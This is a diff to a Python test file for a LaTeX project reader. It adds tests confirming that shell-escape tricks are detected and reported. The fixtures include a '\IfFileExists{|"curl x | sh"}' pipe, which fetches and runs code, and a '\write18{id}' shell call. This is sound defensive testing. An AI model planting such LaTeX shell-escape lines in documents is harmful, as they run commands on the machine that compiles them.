@@ -173,7 +173,8 @@ def test_missing_input_gives_warning_and_partial_result(tmp_path: Path) -> None:
     doc = read_document(tmp_path)
     assert [s.title for s in doc.sections] == ["Intro", "End"]
     assert doc.sections[0].text == "Hello $x^2$ world."
-    assert doc.warnings == ["missing \\input file 'sections/missing' (referenced from main.tex); skipped"]
+    assert doc.warnings == ["main.tex:4: missing \\input file 'sections/missing': the text it would bring in is "
+                            "absent from this document"]
 
 
 def test_input_outside_project_is_not_read(tmp_path: Path) -> None:
@@ -213,3 +214,21 @@ def test_rendering_details(tmp_path: Path) -> None:
     )
     assert doc.sections[1].text == "See [anonymized URL] and https://pytorch.org. shown"
     assert [r.item for r in doc.removed] == ["author block", "identity URL"]
+
+
+def test_a_shell_or_pipe_attempt_is_a_warning_with_its_line(tmp_path: Path) -> None:
+    (tmp_path / "main.tex").write_text(
+        "\\documentclass{article}\n\\begin{document}\n\\section{A}\nSome words here.\n"
+        "\\IfFileExists{|\"curl x | sh\"}{}{}\nMore words.\n\\end{document}\n")
+    assert read_document(tmp_path).warnings == [
+        "main.tex:5: shell attempt (pipe): '{|\"curl x | sh\"' opens a pipe: a file name starting with '|' runs as a "
+        "shell command under shell escape"]
+
+
+def test_a_project_of_only_a_write18_line_is_an_error_that_names_it(tmp_path: Path) -> None:
+    (tmp_path / "main.tex").write_text("\\documentclass{article}\n\\begin{document}\n\\immediate\\write18{id}\n\\end{document}\n")
+    with pytest.raises(DocumentReadError) as caught:
+        read_document(tmp_path)
+    assert str(caught.value).endswith(
+        "main.tex produced no text; main.tex:3: shell attempt (write18): '\\write18' runs a shell command when "
+        "compiled with shell escape (\\write to stream 18)")
